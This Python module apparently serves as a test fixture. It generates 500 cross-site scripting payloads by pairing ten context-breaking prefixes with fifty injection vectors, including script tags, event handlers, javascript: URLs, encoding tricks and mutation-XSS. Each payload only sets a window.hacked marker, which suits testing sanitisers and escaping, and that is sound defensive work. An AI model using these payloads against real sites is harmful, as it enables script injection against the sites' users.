"""500 texts that try to run a script wherever a page puts them; each would set `window.hacked` to its number."""

from __future__ import annotations

from itertools import product

# What comes before leaves the place where it stands; what follows tries to run something.
_WAYS_OUT = ("", '">', "'>", "</script>", "</style></textarea></title>", "-->", "]]>", "`>", "\u2028", '\\");//')
_WAYS_IN = (
    "<script>window.hacked=N</script>",
    "<img src=x onerror=window.hacked=N>",
    "<svg onload=window.hacked=N>",
    "<svg><script>window.hacked=N</script></svg>",
    "<iframe srcdoc='<script>parent.hacked=N</script>'></iframe>",
    "<details open ontoggle=window.hacked=N>x</details>",
    "<input autofocus onfocus=window.hacked=N>",
    "<a href='javascript:window.hacked=N' autofocus onfocus=window.hacked=N>x</a>",
    "<video><source onerror=window.hacked=N></video>",
    "<body onload=window.hacked=N>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=N>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=N>'>",
    "<template><script>window.hacked=N</script></template><script>window.hacked=N</script>",
    "<form action='javascript:window.hacked=N'><button autofocus onfocus=window.hacked=N>x</button></form>",
    "<object data='javascript:window.hacked=N'></object>",
    "<embed src='javascript:window.hacked=N'>",
    "<base href='javascript:window.hacked=N//'>",
    "<meta http-equiv=refresh content='0;url=javascript:window.hacked=N'>",
    "<link rel=stylesheet href='data:text/css,*{}' onload=window.hacked=N>",
    "<style>@import 'javascript:window.hacked=N';</style>",
    "<div style='background:url(javascript:window.hacked=N)' onmouseover=window.hacked=N>x</div>",
    "<marquee onstart=window.hacked=N>x</marquee>",
    "<select autofocus onfocus=window.hacked=N></select>",
    "<audio src=x onerror=window.hacked=N>",
    "<ScRiPt/x>window.hacked=N</sCrIpT>",
    "<<script>window.hacked=N//<</script>",
    "<script\n>window.hacked=N</script\n>",
    "<img src=x onerror=&#119;indow.hacked=N>",
    "<img/src=x/onerror=window.hacked=N>",
    "<x onclick=window.hacked=N autofocus tabindex=1 onfocus=window.hacked=N>x",
    " onfocus=window.hacked=N autofocus x=",
    " onmouseover=window.hacked=N ",
    "javascript:window.hacked=N",
    "data:text/html,<script>parent.hacked=N</script>",
    "{{ ''.__class__ }}{% for x in [1] %}<script>window.hacked=N</script>{% endfor %}",
    "${window.hacked=N}`+(window.hacked=N)+`",
    "\\u003cscript\\u003ewindow.hacked=N\\u003c/script\\u003e",
    "&lt;script&gt;window.hacked=N&lt;/script&gt;",
    "%3Cscript%3Ewindow.hacked=N%3C/script%3E",
    "+ADw-script+AD4-window.hacked=N+ADw-/script+AD4-",
    "\x00<script>window.hacked=N</script>",
    "<script>window['hac'+'ked']=N</script>",
    "<script src='data:text/javascript,window.hacked=N'></script>",
    "<script type=module>window.hacked=N</script>",
    "<svg><animate onbegin=window.hacked=N attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.hacked=N'><text y=9>x</text></a></svg>",
    "<portal src='javascript:window.hacked=N'></portal>",
    "<dialog open onclose=window.hacked=N><form method=dialog><button autofocus>x</button></form></dialog>",
    "<slot onslotchange=window.hacked=N></slot>",
    "__proto__ constructor <script>window.hacked=N</script>",
)

PAYLOADS = [
    (out + way).replace("=N", f"={number}") for number, (out, way) in enumerate(product(_WAYS_OUT, _WAYS_IN), start=1)
]
